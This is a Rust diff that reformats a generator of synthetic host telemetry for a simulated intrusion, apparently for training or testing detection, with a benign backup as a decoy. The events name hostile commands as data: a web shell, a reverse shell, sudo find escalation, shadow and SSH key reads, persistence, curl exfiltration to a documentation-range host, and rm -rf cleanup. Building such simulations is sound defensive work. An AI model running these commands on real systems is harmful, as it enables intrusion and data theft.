@@ -134,6 +134,7 @@ fn step(mut e: Ev, s: &'static str) -> Ev {
 }
 
 /// The attack, in order, with its true times.
+#[rustfmt::skip]
 fn attack() -> Vec<Ev> {
     let at = |m: i64, s: i64, ms: i64| {
         t0() + Duration::minutes(40 + m) + Duration::seconds(s) + Duration::milliseconds(ms)
@@ -149,314 +150,41 @@ fn attack() -> Vec<Ev> {
     let rev_p = (23030, "bash", "bash -i");
     let mut v = vec![
         // web-01: upload of the web shell
-        step(
-            ev(
-                "web-01",
-                at(0, 5, 120),
-                "accept",
-                "203.0.113.66:51514->10.0.1.10:443",
-                nginx,
-                (1200, "nginx", "nginx: master process /usr/sbin/nginx"),
-            ),
-            "initial_access",
-        ),
-        step(
-            write_flags(
-                ev(
-                    "web-01",
-                    at(0, 5, 480),
-                    "openat",
-                    "/var/www/html/uploads/shell.php",
-                    fpm,
-                    (1, "systemd", "/sbin/init"),
-                ),
-                "O_WRONLY|O_CREAT|O_TRUNC",
-            ),
-            "webshell_upload",
-        ),
-        step(
-            ev(
-                "web-01",
-                at(0, 6, 10),
-                "write",
-                "/var/www/html/uploads/shell.php",
-                fpm,
-                (1, "systemd", "/sbin/init"),
-            ),
-            "webshell_upload",
-        ),
+        step(ev("web-01", at(0, 5, 120), "accept", "203.0.113.66:51514->10.0.1.10:443", nginx, (1200, "nginx", "nginx: master process /usr/sbin/nginx")), "initial_access"),
+        step(write_flags(ev("web-01", at(0, 5, 480), "openat", "/var/www/html/uploads/shell.php", fpm, (1, "systemd", "/sbin/init")), "O_WRONLY|O_CREAT|O_TRUNC"), "webshell_upload"),
+        step(ev("web-01", at(0, 6, 10), "write", "/var/www/html/uploads/shell.php", fpm, (1, "systemd", "/sbin/init")), "webshell_upload"),
         // discovery through the shell
-        step(
-            ev(
-                "web-01",
-                at(1, 12, 0),
-                "openat",
-                "/etc/group",
-                (23011, "id", "id"),
-                shell_sh,
-            ),
-            "discovery",
-        ),
-        step(
-            ev(
-                "web-01",
-                at(1, 12, 2),
-                "openat",
-                "/etc/passwd",
-                (23011, "id", "id"),
-                shell_sh,
-            ),
-            "discovery",
-        ),
-        step(
-            ev(
-                "web-01",
-                at(1, 20, 0),
-                "openat",
-                "/proc/version",
-                (23015, "uname", "uname -a"),
-                (23014, "sh", "sh -c uname -a"),
-            ),
-            "discovery",
-        ),
-        step(
-            ev(
-                "web-01",
-                at(1, 31, 0),
-                "openat",
-                "/etc/passwd",
-                (23018, "cat", "cat /etc/passwd"),
-                (23017, "sh", "sh -c cat /etc/passwd"),
-            ),
-            "discovery",
-        ),
-        step(
-            ev(
-                "web-01",
-                at(1, 45, 0),
-                "openat",
-                "/var/www/html/config/database.php",
-                (23021, "cat", "cat config/database.php"),
-                (23020, "sh", "sh -c cat config/database.php"),
-            ),
-            "discovery",
-        ),
+        step(ev("web-01", at(1, 12, 0), "openat", "/etc/group", (23011, "id", "id"), shell_sh), "discovery"),
+        step(ev("web-01", at(1, 12, 2), "openat", "/etc/passwd", (23011, "id", "id"), shell_sh), "discovery"),
+        step(ev("web-01", at(1, 20, 0), "openat", "/proc/version", (23015, "uname", "uname -a"), (23014, "sh", "sh -c uname -a")), "discovery"),
+        step(ev("web-01", at(1, 31, 0), "openat", "/etc/passwd", (23018, "cat", "cat /etc/passwd"), (23017, "sh", "sh -c cat /etc/passwd")), "discovery"),
+        step(ev("web-01", at(1, 45, 0), "openat", "/var/www/html/config/database.php", (23021, "cat", "cat config/database.php"), (23020, "sh", "sh -c cat config/database.php")), "discovery"),
         // reverse shell
-        step(
-            ev(
-                "web-01",
-                at(2, 41, 512),
-                "connect",
-                "10.0.1.10:40522->203.0.113.66:4444",
-                rev,
-                fpm,
-            ),
-            "reverse_shell",
-        ),
-        step(
-            ev("web-01", at(2, 41, 600), "openat", "/dev/tty", rev, fpm),
-            "reverse_shell",
-        ),
+        step(ev("web-01", at(2, 41, 512), "connect", "10.0.1.10:40522->203.0.113.66:4444", rev, fpm), "reverse_shell"),
+        step(ev("web-01", at(2, 41, 600), "openat", "/dev/tty", rev, fpm), "reverse_shell"),
         // key theft
-        step(
-            ev(
-                "web-01",
-                at(4, 2, 0),
-                "openat",
-                "/home/deploy/.ssh/id_rsa",
-                (23042, "cat", "cat /home/deploy/.ssh/id_rsa"),
-                rev_p,
-            ),
-            "credential_access",
-        ),
-        step(
-            ev(
-                "web-01",
-                at(4, 30, 0),
-                "openat",
-                "/home/deploy/.ssh/id_rsa",
-                (
-                    23045,
-                    "ssh",
-                    "ssh -i /home/deploy/.ssh/id_rsa deploy@10.0.2.20",
-                ),
-                rev_p,
-            ),
-            "lateral_movement",
-        ),
-        step(
-            ev(
-                "web-01",
-                at(4, 30, 200),
-                "connect",
-                "10.0.1.10:53312->10.0.2.20:22",
-                (
-                    23045,
-                    "ssh",
-                    "ssh -i /home/deploy/.ssh/id_rsa deploy@10.0.2.20",
-                ),
-                rev_p,
-            ),
-            "lateral_movement",
-        ),
+        step(ev("web-01", at(4, 2, 0), "openat", "/home/deploy/.ssh/id_rsa", (23042, "cat", "cat /home/deploy/.ssh/id_rsa"), rev_p), "credential_access"),
+        step(ev("web-01", at(4, 30, 0), "openat", "/home/deploy/.ssh/id_rsa", (23045, "ssh", "ssh -i /home/deploy/.ssh/id_rsa deploy@10.0.2.20"), rev_p), "lateral_movement"),
+        step(ev("web-01", at(4, 30, 200), "connect", "10.0.1.10:53312->10.0.2.20:22", (23045, "ssh", "ssh -i /home/deploy/.ssh/id_rsa deploy@10.0.2.20"), rev_p), "lateral_movement"),
     ];
     let sshd_app = (31200, "sshd", "sshd: deploy [priv]");
     let deploy_bash = (31230, "bash", "-bash");
     let root_sh = (31260, "sh", "/bin/sh -p");
     let find = (31255, "find", "find . -exec /bin/sh -p ; -quit");
     v.extend([
-        step(
-            ev(
-                "app-01",
-                at(4, 30, 230),
-                "accept",
-                "10.0.1.10:53312->10.0.2.20:22",
-                (880, "sshd", "/usr/sbin/sshd -D"),
-                (1, "systemd", "/sbin/init"),
-            ),
-            "lateral_movement",
-        ),
-        step(
-            ev(
-                "app-01",
-                at(4, 31, 0),
-                "openat",
-                "/home/deploy/.bashrc",
-                deploy_bash,
-                sshd_app,
-            ),
-            "lateral_movement",
-        ),
-        step(
-            ev(
-                "app-01",
-                at(6, 0, 0),
-                "openat",
-                "/etc/sudoers",
-                (31250, "sudo", "sudo find . -exec /bin/sh -p ; -quit"),
-                deploy_bash,
-            ),
-            "privilege_escalation",
-        ),
-        step(
-            ev(
-                "app-01",
-                at(6, 0, 300),
-                "openat",
-                "/home/deploy",
-                find,
-                (31250, "sudo", "sudo find . -exec /bin/sh -p ; -quit"),
-            ),
-            "privilege_escalation",
-        ),
-        step(
-            ev(
-                "app-01",
-                at(6, 0, 420),
-                "openat",
-                "/etc/ld.so.cache",
-                root_sh,
-                find,
-            ),
-            "privilege_escalation",
-        ),
-        step(
-            ev(
-                "app-01",
-                at(7, 10, 0),
-                "openat",
-                "/etc/shadow",
-                (31270, "cat", "cat /etc/shadow"),
-                root_sh,
-            ),
-            "credential_access",
-        ),
-        step(
-            write_flags(
-                ev(
-                    "app-01",
-                    at(8, 0, 0),
-                    "openat",
-                    "/etc/cron.d/sysupdate",
-                    root_sh,
-                    find,
-                ),
-                "O_WRONLY|O_CREAT|O_TRUNC",
-            ),
-            "persistence_cron",
-        ),
-        step(
-            ev(
-                "app-01",
-                at(8, 0, 5),
-                "write",
-                "/etc/cron.d/sysupdate",
-                root_sh,
-                find,
-            ),
-            "persistence_cron",
-        ),
-        step(
-            write_flags(
-                ev(
-                    "app-01",
-                    at(8, 20, 0),
-                    "openat",
-                    "/root/.ssh/authorized_keys",
-                    root_sh,
-                    find,
-                ),
-                "O_WRONLY|O_APPEND|O_CREAT",
-            ),
-            "persistence_ssh_key",
-        ),
-        step(
-            ev(
-                "app-01",
-                at(8, 20, 3),
-                "write",
-                "/root/.ssh/authorized_keys",
-                root_sh,
-                find,
-            ),
-            "persistence_ssh_key",
-        ),
-        step(
-            write_flags(
-                ev(
-                    "app-01",
-                    at(8, 45, 0),
-                    "openat",
-                    "/etc/systemd/system/sysupdate.service",
-                    (31290, "tee", "tee /etc/systemd/system/sysupdate.service"),
-                    root_sh,
-                ),
-                "O_WRONLY|O_CREAT|O_TRUNC",
-            ),
-            "persistence_systemd",
-        ),
-        step(
-            ev(
-                "app-01",
-                at(8, 45, 4),
-                "write",
-                "/etc/systemd/system/sysupdate.service",
-                (31290, "tee", "tee /etc/systemd/system/sysupdate.service"),
-                root_sh,
-            ),
-            "persistence_systemd",
-        ),
-        step(
-            ev(
-                "app-01",
-                at(10, 0, 0),
-                "connect",
-                "10.0.2.20:41822->10.0.2.30:22",
-                (31310, "ssh", "ssh root@10.0.2.30"),
-                root_sh,
-            ),
-            "lateral_movement",
-        ),
+        step(ev("app-01", at(4, 30, 230), "accept", "10.0.1.10:53312->10.0.2.20:22", (880, "sshd", "/usr/sbin/sshd -D"), (1, "systemd", "/sbin/init")), "lateral_movement"),
+        step(ev("app-01", at(4, 31, 0), "openat", "/home/deploy/.bashrc", deploy_bash, sshd_app), "lateral_movement"),
+        step(ev("app-01", at(6, 0, 0), "openat", "/etc/sudoers", (31250, "sudo", "sudo find . -exec /bin/sh -p ; -quit"), deploy_bash), "privilege_escalation"),
+        step(ev("app-01", at(6, 0, 300), "openat", "/home/deploy", find, (31250, "sudo", "sudo find . -exec /bin/sh -p ; -quit")), "privilege_escalation"),
+        step(ev("app-01", at(6, 0, 420), "openat", "/etc/ld.so.cache", root_sh, find), "privilege_escalation"),
+        step(ev("app-01", at(7, 10, 0), "openat", "/etc/shadow", (31270, "cat", "cat /etc/shadow"), root_sh), "credential_access"),
+        step(write_flags(ev("app-01", at(8, 0, 0), "openat", "/etc/cron.d/sysupdate", root_sh, find), "O_WRONLY|O_CREAT|O_TRUNC"), "persistence_cron"),
+        step(ev("app-01", at(8, 0, 5), "write", "/etc/cron.d/sysupdate", root_sh, find), "persistence_cron"),
+        step(write_flags(ev("app-01", at(8, 20, 0), "openat", "/root/.ssh/authorized_keys", root_sh, find), "O_WRONLY|O_APPEND|O_CREAT"), "persistence_ssh_key"),
+        step(ev("app-01", at(8, 20, 3), "write", "/root/.ssh/authorized_keys", root_sh, find), "persistence_ssh_key"),
+        step(write_flags(ev("app-01", at(8, 45, 0), "openat", "/etc/systemd/system/sysupdate.service", (31290, "tee", "tee /etc/systemd/system/sysupdate.service"), root_sh), "O_WRONLY|O_CREAT|O_TRUNC"), "persistence_systemd"),
+        step(ev("app-01", at(8, 45, 4), "write", "/etc/systemd/system/sysupdate.service", (31290, "tee", "tee /etc/systemd/system/sysupdate.service"), root_sh), "persistence_systemd"),
+        step(ev("app-01", at(10, 0, 0), "connect", "10.0.2.20:41822->10.0.2.30:22", (31310, "ssh", "ssh root@10.0.2.30"), root_sh), "lateral_movement"),
     ]);
     let db_bash = (44120, "bash", "-bash");
     let dump = (
@@ -471,133 +199,17 @@ fn attack() -> Vec<Ev> {
         "curl -k -T /tmp/.x/db.tgz https://198.51.100.23/upload",
     );
     v.extend([
-        step(
-            ev(
-                "db-01",
-                at(10, 0, 30),
-                "accept",
-                "10.0.2.20:41822->10.0.2.30:22",
-                (910, "sshd", "/usr/sbin/sshd -D"),
-                (1, "systemd", "/sbin/init"),
-            ),
-            "lateral_movement",
-        ),
-        step(
-            ev(
-                "db-01",
-                at(11, 0, 0),
-                "connect",
-                "/run/mysqld/mysqld.sock",
-                dump,
-                db_bash,
-            ),
-            "collection",
-        ),
-        step(
-            write_flags(
-                ev(
-                    "db-01",
-                    at(11, 0, 100),
-                    "openat",
-                    "/tmp/.x/db.sql",
-                    dump,
-                    db_bash,
-                ),
-                "O_WRONLY|O_CREAT|O_TRUNC",
-            ),
-            "collection",
-        ),
-        step(
-            ev(
-                "db-01",
-                at(11, 40, 0),
-                "write",
-                "/tmp/.x/db.sql",
-                dump,
-                db_bash,
-            ),
-            "collection",
-        ),
-        step(
-            ev(
-                "db-01",
-                at(12, 10, 0),
-                "openat",
-                "/tmp/.x/db.sql",
-                tar,
-                db_bash,
-            ),
-            "staging",
-        ),
-        step(
-            write_flags(
-                ev(
-                    "db-01",
-                    at(12, 10, 5),
-                    "openat",
-                    "/tmp/.x/db.tgz",
-                    tar,
-                    db_bash,
-                ),
-                "O_WRONLY|O_CREAT|O_TRUNC",
-            ),
-            "staging",
-        ),
-        step(
-            ev(
-                "db-01",
-                at(13, 0, 0),
-                "openat",
-                "/tmp/.x/db.tgz",
-                curl,
-                db_bash,
-            ),
-            "exfiltration",
-        ),
-        step(
-            ev(
-                "db-01",
-                at(13, 0, 80),
-                "connect",
-                "10.0.2.30:50122->198.51.100.23:443",
-                curl,
-                db_bash,
-            ),
-            "exfiltration",
-        ),
-        step(
-            ev(
-                "db-01",
-                at(13, 20, 0),
-                "write",
-                "10.0.2.30:50122->198.51.100.23:443",
-                curl,
-                db_bash,
-            ),
-            "exfiltration",
-        ),
-        step(
-            ev(
-                "db-01",
-                at(14, 0, 0),
-                "unlinkat",
-                "/tmp/.x/db.sql",
-                (44190, "rm", "rm -rf /tmp/.x"),
-                db_bash,
-            ),
-            "defense_evasion",
-        ),
-        step(
-            ev(
-                "db-01",
-                at(14, 0, 1),
-                "unlinkat",
-                "/tmp/.x/db.tgz",
-                (44190, "rm", "rm -rf /tmp/.x"),
-                db_bash,
-            ),
-            "defense_evasion",
-        ),
+        step(ev("db-01", at(10, 0, 30), "accept", "10.0.2.20:41822->10.0.2.30:22", (910, "sshd", "/usr/sbin/sshd -D"), (1, "systemd", "/sbin/init")), "lateral_movement"),
+        step(ev("db-01", at(11, 0, 0), "connect", "/run/mysqld/mysqld.sock", dump, db_bash), "collection"),
+        step(write_flags(ev("db-01", at(11, 0, 100), "openat", "/tmp/.x/db.sql", dump, db_bash), "O_WRONLY|O_CREAT|O_TRUNC"), "collection"),
+        step(ev("db-01", at(11, 40, 0), "write", "/tmp/.x/db.sql", dump, db_bash), "collection"),
+        step(ev("db-01", at(12, 10, 0), "openat", "/tmp/.x/db.sql", tar, db_bash), "staging"),
+        step(write_flags(ev("db-01", at(12, 10, 5), "openat", "/tmp/.x/db.tgz", tar, db_bash), "O_WRONLY|O_CREAT|O_TRUNC"), "staging"),
+        step(ev("db-01", at(13, 0, 0), "openat", "/tmp/.x/db.tgz", curl, db_bash), "exfiltration"),
+        step(ev("db-01", at(13, 0, 80), "connect", "10.0.2.30:50122->198.51.100.23:443", curl, db_bash), "exfiltration"),
+        step(ev("db-01", at(13, 20, 0), "write", "10.0.2.30:50122->198.51.100.23:443", curl, db_bash), "exfiltration"),
+        step(ev("db-01", at(14, 0, 0), "unlinkat", "/tmp/.x/db.sql", (44190, "rm", "rm -rf /tmp/.x"), db_bash), "defense_evasion"),
+        step(ev("db-01", at(14, 0, 1), "unlinkat", "/tmp/.x/db.tgz", (44190, "rm", "rm -rf /tmp/.x"), db_bash), "defense_evasion"),
     ]);
     v
 }
@@ -673,6 +285,7 @@ fn noise_event(rng: &mut Rng, host: &'static str, ip: &str, at: DateTime<Utc>) -
 }
 
 /// The nightly backup on db-01 at 02:00: a benign mysqldump, tar and rsync to the backup host.
+#[rustfmt::skip]
 fn nightly_backup() -> Vec<Ev> {
     let at = |s: i64| t0() + Duration::minutes(30) + Duration::seconds(s);
     let script = (52000, "backup.sh", "/bin/bash /usr/local/sbin/backup.sh");
@@ -692,76 +305,14 @@ fn nightly_backup() -> Vec<Ev> {
         "rsync -a /backup/nightly/ backup@10.0.3.5::nightly",
     );
     vec![
-        ev(
-            "db-01",
-            at(0),
-            "openat",
-            "/usr/local/sbin/backup.sh",
-            script,
-            (640, "cron", "/usr/sbin/cron -f"),
-        ),
-        ev(
-            "db-01",
-            at(1),
-            "connect",
-            "/run/mysqld/mysqld.sock",
-            dump,
-            script,
-        ),
-        write_flags(
-            ev(
-                "db-01",
-                at(2),
-                "openat",
-                "/backup/nightly/db-2025-07-10.sql",
-                dump,
-                script,
-            ),
-            "O_WRONLY|O_CREAT|O_TRUNC",
-        ),
-        ev(
-            "db-01",
-            at(40),
-            "write",
-            "/backup/nightly/db-2025-07-10.sql",
-            dump,
-            script,
-        ),
-        ev(
-            "db-01",
-            at(70),
-            "openat",
-            "/backup/nightly/db-2025-07-10.sql",
-            tar,
-            script,
-        ),
-        write_flags(
-            ev(
-                "db-01",
-                at(71),
-                "openat",
-                "/backup/nightly/db-2025-07-10.tgz",
-                tar,
-                script,
-            ),
-            "O_WRONLY|O_CREAT|O_TRUNC",
-        ),
-        ev(
-            "db-01",
-            at(120),
-            "connect",
-            "10.0.2.30:48810->10.0.3.5:873",
-            rsync,
-            script,
-        ),
-        ev(
-            "db-01",
-            at(121),
-            "write",
-            "10.0.2.30:48810->10.0.3.5:873",
-            rsync,
-            script,
-        ),
+        ev("db-01", at(0), "openat", "/usr/local/sbin/backup.sh", script, (640, "cron", "/usr/sbin/cron -f")),
+        ev("db-01", at(1), "connect", "/run/mysqld/mysqld.sock", dump, script),
+        write_flags(ev("db-01", at(2), "openat", "/backup/nightly/db-2025-07-10.sql", dump, script), "O_WRONLY|O_CREAT|O_TRUNC"),
+        ev("db-01", at(40), "write", "/backup/nightly/db-2025-07-10.sql", dump, script),
+        ev("db-01", at(70), "openat", "/backup/nightly/db-2025-07-10.sql", tar, script),
+        write_flags(ev("db-01", at(71), "openat", "/backup/nightly/db-2025-07-10.tgz", tar, script), "O_WRONLY|O_CREAT|O_TRUNC"),
+        ev("db-01", at(120), "connect", "10.0.2.30:48810->10.0.3.5:873", rsync, script),
+        ev("db-01", at(121), "write", "10.0.2.30:48810->10.0.3.5:873", rsync, script),
     ]
 }
 
